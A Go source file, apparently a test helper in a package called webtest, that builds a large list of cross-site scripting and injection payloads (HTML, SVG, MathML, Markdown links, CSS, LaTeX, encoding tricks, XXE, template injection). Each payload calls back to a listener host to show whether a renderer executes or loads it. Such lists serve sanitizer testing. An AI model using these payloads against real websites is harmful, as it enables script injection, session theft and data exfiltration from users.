package webtest

import "strings"

// Payloads returns what somebody writes who wants a page to do more than show a document, and have it ask a listener for something.
func Payloads(listener string) (out []string) {
	for _, p := range payloads {
		out = append(out, strings.NewReplacer("U/", "http://"+listener+"/", "HOST", listener).Replace(p))
	}
	return out
}

// payloads are those texts; U is the address of the listener, HOST its name.
var payloads = []string{
	// Elements that run or load.
	`<script>fetch("U/a")</script>`, `<img src="U/b" onerror="fetch('U/c')">`, `"><svg onload=fetch('U/d')>`, `' onmouseover='fetch("U/e")' x='`,
	`<iframe src="U/f"></iframe><iframe srcdoc="<script>parent.fetch('U/f')</script>">`, `<link rel=stylesheet href=U/g><link rel=prefetch href=U/g><link rel=dns-prefetch href=U>`,
	`<meta http-equiv=refresh content="0;url=U/h">`, `<meta http-equiv="&#82;efresh" content="0;javascript:fetch('U/h')">`, `<base href="U/i/">`,
	`<object data=U/13><embed src=U/13>`, `<video poster=U/14><source srcset="U/14 1x"><track src=U/14>`, `<img srcset="U/15 1x, U/16 2x" sizes=1px><picture><source srcset=U/17></picture>`,
	`<form action=U/12><button autofocus onfocus=this.form.submit()>`, `<button formaction="javascript:fetch('U/18')">x</button><input type=image src=U/19 formaction=U/20>`,
	`<details open ontoggle=fetch("U/21")><summary>x</summary></details><marquee onstart=fetch("U/22")>`, `<body onload=fetch("U/23") background=U/24><table background=U/25>`,
	`<a href="U/10" ping="U/11">x</a>`, `<input autofocus onfocus=fetch("U/26")><keygen autofocus onfocus=fetch(1)>`, `<frameset><frame src=U/27></frameset>`,
	// SVG and MathML with behaviour.
	`<svg><script href=U/28 /><image href=U/29 /><use href="U/30#x"/></svg>`, `<svg><animate attributeName=href values=javascript:fetch(1) onbegin=fetch("U/31") begin=0s dur=1s /></svg>`,
	`<svg><a xlink:href="javascript:fetch(1)"><set attributeName="xlink:href" to="javascript:fetch(2)"/><text>x</text></a></svg>`, `<svg><foreignObject><iframe src=U/32></iframe></foreignObject></svg>`,
	`<svg><style>*{fill:url(U/33#a)}@import "U/34";</style><filter><feImage href=U/35 /></filter></svg>`,
	`<math href="javascript:fetch('U/36')"><mi xlink:href="javascript:fetch(1)">x</mi></math>`, `<math><maction actiontype="statusline#U/37" xlink:href="javascript:x">a</maction></math>`,
	`<math><mtext><img src=U/9></mtext></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=fetch("U/38")></annotation-xml></math>`,
	// Ends of whatever it may stand in.
	`</style><script>fetch("U/j")</script>`, `</script><script>fetch("U/k")</script>`, `</title><script>fetch("U/l")</script>`, `--><script>fetch("U/m")</script>`,
	`]]><script>fetch("U/n")</script>`, `</textarea></noscript></select></template><script>fetch("U/39")</script>`, `<noscript><p title="</noscript><img src=x onerror=fetch('U/40')>">`,
	`<!--><img src=U/41 onerror=fetch(1)-->`, `<![CDATA[><img src=U/42>]]>`, `<?xml-stylesheet href="U/43"?><!DOCTYPE x [<!ENTITY y SYSTEM "U/44">]>&y;`,
	`</annotation></semantics></math><img src=U/45>`, `</code></pre></td></table></main><img src=U/46>`,
	// Out of an attribute.
	`" autofocus onfocus="fetch('U/47')" x="`, `x" style="background:url(U/48)" y="`, `x"/onmouseover="fetch('U/49')`, "` onclick=`fetch('U/50')", `&quot; onclick=&quot;fetch('U/51')`,
	`&#34; onclick=&#34;fetch(1)`, `\" onclick=\"fetch('U/52')`, `x' src='U/53' data-y='`,
	// Scripts as addresses.
	`[x](javascript:fetch('U/o'))`, `[x](JaVaScRiPt:fetch(1))`, `[x](&#106;avascript:fetch(1))`, `[x](&#x6A;avascript&colon;fetch(1))`, `[x](java&Tab;script:fetch(1))`, `[x](java&#10;script:fetch(1))`,
	"[x](java\tscript:fetch(1)) [x](java\x00script:fetch(1)) [x](\u0001javascript:fetch(1))", "[x](\u00a0javascript:fetch(1)) [x](\u2028javascript:fetch(1)) [x](\ufeffjavascript:fetch(1))", `[x](javascript&#58;fetch(1)) [x](%6Aavascript:fetch(1))`,
	`[x](data:text/html,<script>1</script>)`, `[x](vbscript:x) [x](livescript:x) [x](feed:javascript:x) [x](view-source:javascript:x) [x](blob:x) [x](filesystem:x) [x](jar:U/54!/x)`,
	`javascript:fetch("U/q")`, ` javascript:fetch("U/55")`, "java\tscript:fetch(1)", `javascript://%0Afetch("U/56")`, `https:javascript:fetch(1)`,
	// Addresses of others, in disguise.
	`![x](U/p)`, `U/r.png`, `//` + `HOST/s.png`, `\\HOST\t.png`, `/\HOST/57.png`, `\/HOST/58.png`, `https:\\HOST\59.png`, "\t//HOST/60.png", "/\t/HOST/61.png", `http:HOST/62.png`, `file:///etc/passwd`, `[x](//HOST/63) [x](/\HOST/64)`,
	`data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('U/1')"><image href="U/2"/></svg>`, `data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iZmV0Y2goMSkiLz4=`,
	`data:text/html,<script>fetch("U/3")</script>`, `DATA:text/html;base64,PHNjcmlwdD5mZXRjaCgxKTwvc2NyaXB0Pg==`, `data:image/png"onerror="fetch(1),x`, `data:application/xhtml+xml,<script>1</script>`, `data:,x`,
	// Styles.
	`url(U/u)`, `red;background:url(U/v)`, `100px;background:url(U/w)`, `expression(fetch(1))`, `}</style>*{background:url(U/x)}`, `"; content: url(U/y); "`, `@import "U/z";`,
	`1px;background:u\72l(U/65)`, `1px;background:image-set("U/66" 1x)`, `1px;behavior:url(U/67);-moz-binding:url(U/68)`, `1px/*;*/;--a:url(U/69)`, `*/}*{background:url(U/70)}/*`, `<p style="background:url(U/71)">x</p>`, "\\0000003c/style><img src=U/72>",
	`<style>@font-face{font-family:x;src:url(U/73)}*{font-family:x}</style>`, `10px}@page{background:url(U/74)}`,
	// LaTeX.
	`$\href{javascript:fetch(1)}{x}$`, `$\text{<script>fetch("U/4")</script>}$`, `$\style{background:url(U/5)}{x}$`, `\[\includegraphics{U/6}\]`, `$\htmlData{onclick=fetch(1)}{x}$ $\class{a" onclick="fetch(1)}{x}$ $\cssId{a"}{x}$`,
	`$\textcolor{red;background:url(U/75)}{x}$ $\color{"><img src=U/76>}x$`, `$\url{javascript:fetch(1)}$ $\unicode{<img src=U/77>}$`, `$</annotation><img src=U/78>$`,
	// Other ways to write the same letters.
	"`<script>fetch('U/7')</script>`", `&lt;script&gt;fetch("U/8")&lt;/script&gt;`, "\x00<scr\x00ipt>fetch(1)</script>", `\u003cscript\u003efetch("U/79")\u003c/script\u003e`, `\x3cscript\x3efetch(1)\x3c/script\x3e`, `%3Cscript%3Efetch(1)%3C/script%3E`,
	`+ADw-script+AD4-fetch(1)+ADw-/script+AD4-`, "\xc0\xbcscript\xc0\xbefetch(1)", "\uff1cscript\uff1efetch(1)\uff1c/script\uff1e", `&amp;lt;img src=U/80&amp;gt;`, `{{constructor.constructor("fetch(1)")()}}`, `${fetch("U/81")}`, `[[x" onclick="fetch(1)]]`,
}
